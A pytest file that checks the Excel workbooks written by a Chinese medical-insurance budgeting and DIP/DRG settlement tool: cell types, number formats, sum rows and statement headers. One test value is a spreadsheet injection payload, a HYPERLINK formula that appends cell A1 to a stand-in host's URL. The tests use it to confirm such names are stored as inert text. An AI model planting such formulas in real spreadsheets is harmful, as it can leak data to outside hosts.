"""Every workbook the commands write, opened and checked cell by cell on a small synthetic region.

One region (yibao synth, 5 000 cases, seed 7) with an institution and a staff member whose names begin
with ``=`` and ``@`` is loaded once; each command that writes a workbook runs on it (budget, review,
dip build / score / hospital / settle / simulate, drg settle, staff institutions). Then every .xlsx
under the outputs is opened and, against the column kinds the writer recorded (``yibao.sheets``):
numbers are numbers with the format of their kind, text is text, booleans are 是/否, no cell is a
formula, every 合计 row equals the exact Decimal sum of the cells above it.
"""

from __future__ import annotations

import csv
import datetime as dt
from decimal import Decimal, InvalidOperation
from pathlib import Path

import pytest
from conftest import run_cli
from openpyxl import load_workbook

from yibao.contract.standards import find_standards
from yibao.engine.excel import FORMATS, NUMERIC, TOTAL_LABEL, layout_of

FORMULA_NAME = '=HYPERLINK("http://example.invalid/"&A1,"点击")'
STAFF_PREFIX = "@"  # every staff member's name begins with it
ISSUE_DATE = "2026-01-15"


def _rewrite(path: Path, key: str, row_index: int | None, column: str, value: str) -> str:
    """Set ``column`` of the ``row_index``-th data row of a CSV (every row when None: ``value`` + the old
    text); return that row's ``key``."""
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    fields = list(rows[0])
    if row_index is None:
        for r in rows:
            r[column] = value + r[column]
        row_index = 0
    else:
        rows[row_index][column] = value
    with path.open("w", encoding="utf-8", newline="") as f:
        w = csv.DictWriter(f, fieldnames=fields, lineterminator="\n")
        w.writeheader()
        w.writerows(rows)
    return rows[row_index][key]


@pytest.fixture(scope="module")
def outputs(tmp_path_factory) -> dict:
    from yibao.engine.loading import load_region
    from yibao.synth import generate

    base = tmp_path_factory.mktemp("workbooks")
    std = find_standards(None)
    assert std is not None, "the CHS-DRG standards directory is needed"
    generate(base / "region", seed=7, cases=5000)
    hospital = _rewrite(base / "region" / "institutions.csv", "institution_id", 0, "name", FORMULA_NAME)
    _rewrite(base / "region" / "staff.csv", "staff_id", None, "name", STAFF_PREFIX)
    load_region(base / "region", base / "ws")
    policy = base / "budget.toml"
    policy.write_text((base / "region" / "budget_policy.toml").read_text(encoding="utf-8")
                      + f'\n[statement]\nissue_date = "{ISSUE_DATE}"\n', encoding="utf-8")
    dip = base / "dip.toml"
    dip.write_text('[catalogue]\nyears = [2023, 2024]\nyear_weights = ["3", "7"]\n', encoding="utf-8")
    (base / "cut.toml").write_text('name = "预算下调 10%"\n[budget]\ninpatient_factor = "0.90"\n', encoding="utf-8")
    ws, out = base / "ws", base / "out"
    runs = [
        ("budget", "--policy", policy, "--workspace", ws, "--out", out / "budget"),
        ("review", "--workspace", ws, "--out", out / "review"),
        ("dip", "build", "-w", ws, "--policy", dip, "--standards", std, "--out", out / "cat"),
        ("dip", "score", "-w", ws, "--policy", dip, "--catalogue", out / "cat", "--out", base / "scored"),
        ("dip", "hospital", "--scored", base / "scored", "--institution", hospital, "-w", ws, "--policy", dip,
         "--point-value", "12.345678", "--out", out / "hospital"),
        ("dip", "settle", "-w", ws, "--scored", base / "scored", "--policy", dip, "--budget-policy", policy,
         "--deductions", out / "review" / "deductions.csv", "--out", out / "dip"),
        ("dip", "simulate", "-w", ws, "--catalogue", out / "cat", "--policy", dip, "--budget-policy", policy,
         "--scenario", base / "cut.toml", "--out", out / "simulate"),
        ("drg", "settle", "-w", ws, "--standards", std, "--budget-policy", policy,
         "--deductions", out / "review" / "deductions.csv", "--out", out / "drg"),
        ("staff", "institutions", "--year", "2025", "-w", ws, "--out", out / "staff"),
    ]
    printed = {}
    for args in runs:
        r = run_cli(*map(str, args))
        assert r.returncode == 0, (args[:2], r.stderr)
        printed[args[0] if args[0] in ("budget", "review") else " ".join(map(str, args[:2]))] = r.stdout
    return {"out": out, "hospital": hospital, "printed": printed}


def _books(out: Path) -> list[Path]:
    return sorted(out.rglob("*.xlsx"))


def test_every_command_wrote_its_workbooks(outputs) -> None:
    rel = {str(p.relative_to(outputs["out"])) for p in _books(outputs["out"])}
    for name in ("budget/statements/全市汇总.xlsx", "review/审核结果.xlsx", "cat/catalogue.xlsx",
                 f"hospital/{outputs['hospital']}_病种分值.xlsx", "simulate/comparison.xlsx",
                 "staff/staff_institutions.xlsx"):
        assert name in rel, name
    for d in ("budget/statements/机构/", "dip/statements/", "drg/statements/"):
        assert any(r.startswith(d) for r in rel), d


def _number(v) -> Decimal:
    return Decimal(str(v))


def test_cells_are_stored_as_their_kind(outputs) -> None:
    checked = 0
    for path in _books(outputs["out"]):
        wb = load_workbook(path)
        layout = layout_of(wb)
        assert set(layout) == set(wb.sheetnames), path
        for ws in wb.worksheets:
            lay = layout[ws.title]
            h, last, kinds = lay["header_row"], lay["last_row"], lay["kinds"]
            assert ws.freeze_panes == f"A{h + 1}", (path.name, ws.title)
            assert ws.page_setup.orientation == "landscape" and ws.page_setup.fitToWidth == 1
            assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.print_title_rows == f"$1:${h}"
            for row in ws.iter_rows():
                for cell in row:  # nothing anywhere is a live formula or an Excel boolean
                    assert cell.data_type != "f", (path.name, ws.title, cell.coordinate, cell.value)
                    assert not isinstance(cell.value, bool) and cell.value not in ("TRUE", "FALSE")
            end = lay["total_row"] or last
            for r in range(h + 1, end + 1):
                for c, kind in enumerate(kinds, start=1):
                    cell = ws.cell(row=r, column=c)
                    v = cell.value
                    if v is None or (r == lay["total_row"] and v == TOTAL_LABEL):
                        continue
                    where = (path.name, ws.title, cell.coordinate, kind, v)
                    if kind in NUMERIC:
                        assert isinstance(v, (int, float)), where  # never a numeric string
                        assert cell.number_format == FORMATS[kind], where
                    elif kind == "date":
                        assert isinstance(v, dt.datetime) and cell.number_format == FORMATS["date"], where
                    else:
                        assert isinstance(v, str) and cell.data_type == "s", where
                        if kind == "bool":
                            assert v in ("是", "否"), where
                    checked += 1
    assert checked > 10_000


def test_no_numeric_text_in_numeric_columns(outputs) -> None:
    """The issue's count: a text cell that reads as a number, in a column meant for numbers."""
    bad = []
    for path in _books(outputs["out"]):
        wb = load_workbook(path)
        layout = layout_of(wb)
        for ws in wb.worksheets:
            lay = layout[ws.title]
            for r in range(lay["header_row"] + 1, lay["last_row"] + 1):
                for c, kind in enumerate(lay["kinds"], start=1):
                    v = ws.cell(row=r, column=c).value
                    if kind in NUMERIC and isinstance(v, str):
                        try:
                            Decimal(v.replace(",", ""))
                            bad.append((path.name, ws.title, r, c, v))
                        except InvalidOperation:
                            pass
    assert bad == []


def test_total_rows_equal_the_column_sums(outputs) -> None:
    totals = 0
    for path in _books(outputs["out"]):
        wb = load_workbook(path)
        layout = layout_of(wb)
        for ws in wb.worksheets:
            lay = layout[ws.title]
            t = lay["total_row"]
            if t is None:
                continue
            assert TOTAL_LABEL in [ws.cell(row=t, column=c).value for c in range(1, len(lay["kinds"]) + 1)]
            for c, summed in enumerate(lay["summed"], start=1):
                if not summed:
                    continue
                cells = [ws.cell(row=r, column=c).value for r in range(lay["header_row"] + 1, lay["last_row"] + 1)]
                want = sum((_number(v) for v in cells if v is not None), Decimal(0))
                got = ws.cell(row=t, column=c).value
                assert (_number(got) if got is not None else Decimal(0)) == want, (path.name, ws.title, c)
                totals += 1
    assert totals > 100


def test_names_beginning_with_formula_characters_are_text(outputs) -> None:
    seen = {"institution": 0, "staff": 0}
    for path in _books(outputs["out"]):
        for ws in load_workbook(path).worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    v = cell.value
                    if isinstance(v, str) and (v == FORMULA_NAME or v.startswith(STAFF_PREFIX)):
                        assert cell.data_type == "s" and cell.quotePrefix, (path.name, ws.title, cell.coordinate)
                        seen["institution" if v == FORMULA_NAME else "staff"] += 1
    assert seen["institution"] > 0 and seen["staff"] > 0  # the regional workbook, the review's doctor names


def _sheet_dicts(ws, header_row: int, last_row: int) -> list[dict]:
    head = [c.value for c in ws[header_row]]
    return [dict(zip(head, (c.value for c in ws[r]))) for r in range(header_row + 1, last_row + 1)]


def test_statements_carry_number_issuer_date_and_deductions(outputs) -> None:
    out = outputs["out"]
    ded = list(csv.DictReader((out / "review" / "deductions.csv").open(encoding="utf-8-sig")))
    for method, d in (("DIP", out / "dip" / "statements"), ("DRG", out / "drg" / "statements")):
        with_deductions = 0
        for path in sorted(d.glob("*.xlsx")):
            wb = load_workbook(path)
            inst = path.stem
            head = [wb["年终清算"].cell(row=r, column=1).value for r in range(1, 4)]
            assert f"结算单编号：{method}-2025-{inst}" in head[1] and "机构名称：" in head[1]
            assert head[2] == f"签发机构：统筹地区医疗保障经办机构　　签发日期：{ISSUE_DATE}"
            lay = layout_of(wb)["扣款明细"]
            lines = (_sheet_dicts(wb["扣款明细"], lay["header_row"], lay["last_row"])
                     if lay["last_row"] > lay["header_row"] else [])
            want = sorted(Decimal(r["amount"]) for r in ded if r["institution_id"] == inst and r["year"] == "2025")
            assert sorted(_number(r["扣款金额"]) for r in lines) == want, path.name
            if want:
                with_deductions += 1
                total = wb["扣款明细"].cell(row=lay["total_row"], column=len(lay["kinds"])).value
                assert _number(total) == sum(want)
        assert with_deductions > 0, method


def test_labels_and_names_a_person_reads(outputs) -> None:
    out = outputs["out"]
    # per-capita units are person-months, DRG money is weight × base rate
    dip_clearing = list(csv.DictReader((out / "dip" / "clearing.csv").open(encoding="utf-8-sig")))
    assert {r["计量单位"] for r in dip_clearing} == {"点", "人月"}
    drg_head = (out / "drg" / "clearing.csv").read_text(encoding="utf-8-sig").splitlines()[0]
    assert "年度病例权重" in drg_head and "权重×费率" in drg_head and "点数×点值" not in drg_head
    # DRG names beside the codes, from the standards' drgs.csv; ADRG names without the complication suffix
    wb = load_workbook(next((out / "drg" / "statements").glob("*.xlsx")))
    lay = layout_of(wb)["病例"]
    cases = [r for r in _sheet_dicts(wb["病例"], lay["header_row"], lay["last_row"]) if r["DRG"]]
    assert cases and all(r["DRG 名称"] and r["ADRG"] == r["DRG"][:3] for r in cases)
    assert all("并发症" not in r["ADRG 名称"] for r in cases)
    # DIP groups with diagnosis and procedure names
    wb = load_workbook(out / "cat" / "catalogue.xlsx")
    lay = layout_of(wb)["病种目录库"]
    groups = _sheet_dicts(wb["病种目录库"], lay["header_row"], lay["last_row"])
    core = [g for g in groups if g["病种类型"] == "核心病种"]
    assert core and all(g["诊断名称"] for g in core)
    assert any(g["手术操作名称"] for g in core if g["手术操作组合"] not in (None, "无"))
    wb = load_workbook(out / "hospital" / f"{outputs['hospital']}_病种分值.xlsx")
    lay = layout_of(wb)["病种汇总"]
    hosp = _sheet_dicts(wb["病种汇总"], lay["header_row"], lay["last_row"])
    assert hosp and all(g["病种名称"] for g in hosp if "|" in g["病种编码"])
    assert wb["概况"].cell(row=1, column=1).value.startswith(f"机构 {FORMULA_NAME}（{outputs['hospital']}）")
    # codes shown as Chinese labels: schemes, kinds, levels
    wb = load_workbook(out / "budget" / "statements" / "全市汇总.xlsx")
    lay = layout_of(wb)["机构汇总"]
    insts = _sheet_dicts(wb["机构汇总"], lay["header_row"], lay["last_row"])
    assert {r["机构类型"] for r in insts} <= {"医院", "基层", "药店"} and {r["机构级别"] for r in insts} <= \
        {"三级", "二级", "一级", "未定级"}


def test_review_workbook_and_headline_per_year(outputs) -> None:
    out = outputs["out"] / "review"
    findings = list(csv.DictReader((out / "findings.csv").open(encoding="utf-8-sig")))
    assert list(findings[0])[:6] == ["case_id", "line_no", "rule_id", "severity", "amount", "message"]
    assert list(findings[0])[6:] == ["institution_id", "person_id", "staff_id", "dept_code", "admit_date",
                                     "settle_year", "item_code"]
    assert all(r["institution_id"] and r["settle_year"] for r in findings)
    assert all(r["item_code"] for r in findings if r["line_no"])
    wb = load_workbook(out / "审核结果.xlsx")
    assert wb.sheetnames == ["审核结果", "机构汇总", "机构规则汇总", "结算扣款"]
    lay = layout_of(wb)["审核结果"]
    rows = _sheet_dicts(wb["审核结果"], lay["header_row"], lay["last_row"])
    assert len(rows) == len(findings)
    persons = {r["person_id"] for r in findings} | {r["staff_id"] for r in findings if r["staff_id"]}
    for ws in wb.worksheets:  # no id numbers of persons anywhere in the workbook
        assert not any(c.value in persons for row in ws.iter_rows() for c in row)
    assert any(r["医师（人员）姓名"] for r in rows) and all(r["机构名称"] for r in rows)
    rejected = sum((Decimal(r["amount"]) for r in findings if r["severity"] == "reject"), Decimal(0))
    assert _number(wb["审核结果"].cell(row=lay["total_row"], column=6).value) == rejected
    # the headline deduction is per settlement year, each year's figure the sum of that year's deductions
    ded = list(csv.DictReader((out / "deductions.csv").open(encoding="utf-8-sig")))
    years = sorted({d["year"] for d in ded})
    line = next(l for l in outputs["printed"]["review"].splitlines() if l.startswith("结算应扣减"))
    for y in years:
        amount = sum(Decimal(d["amount"]) for d in ded if d["year"] == y)
        assert f"{y} 年 {amount:,.2f} 元" in line


# --- the writer and the statement parameters, without a region ------------------------------------------------

def test_writer_stores_each_kind_and_refuses_text_in_a_number_column(tmp_path: Path) -> None:
    from yibao.engine.excel import Col, Sheet, write_workbook

    cols = [Col("机构名称"), Col("金额", "money"), Col("人数", "count"), Col("比例", "share"), Col("点值", "point_value"),
            Col("基层", "bool"), Col("险种", "code", {"employee": "职工"})]
    rows = [["=1+1", Decimal("1234.50"), 3, Decimal("0.1234"), Decimal("12.345678"), True, "employee"],
            ["-负数开头", "10.05", "4", None, None, False, "resident"]]
    write_workbook(tmp_path / "a.xlsx", [Sheet("表", cols, rows, ["标题"], total=True)])
    ws = load_workbook(tmp_path / "a.xlsx")["表"]
    assert [c.value for c in ws[4]] == ["=1+1", 1234.5, 3, 0.1234, 12.345678, "是", "职工"]
    assert ws["A4"].data_type == "s" and ws["A4"].quotePrefix and ws["A5"].quotePrefix
    assert ws["B5"].value == 10.05 and ws["C5"].value == 4  # numbers given as text are stored as numbers
    assert [c.value for c in ws[6]][:3] == ["合计", 1244.55, 7] and ws["D6"].value is None
    assert [ws.cell(row=4, column=c).number_format for c in range(2, 6)] == ["#,##0.00", "#,##0", "0.00%", "0.000000"]
    assert ws["G5"].value == "resident" and ws.auto_filter.ref == "A3:G5"
    with pytest.raises(ValueError, match="not a number"):
        write_workbook(tmp_path / "b.xlsx", [Sheet("表", [Col("金额", "money")], [["十元"]])])


def test_statement_issuer_is_a_policy_parameter() -> None:
    from yibao.contract.reasons import FatalLoadError
    from yibao.settle.report import issuer_from

    assert issuer_from({}).agency == "统筹地区医疗保障经办机构" and issuer_from({}).issue_date == dt.date.today()
    own = issuer_from({"statement": {"agency": "韶关市医疗保障事业管理中心", "issue_date": "2026-01-15"}})
    assert (own.agency, own.issue_date) == ("韶关市医疗保障事业管理中心", dt.date(2026, 1, 15))
    for bad in ({"agent": "x"}, {"agency": " "}, {"issue_date": "15/01/2026"}):
        with pytest.raises(FatalLoadError):
            issuer_from({"statement": bad}, "budget.toml")
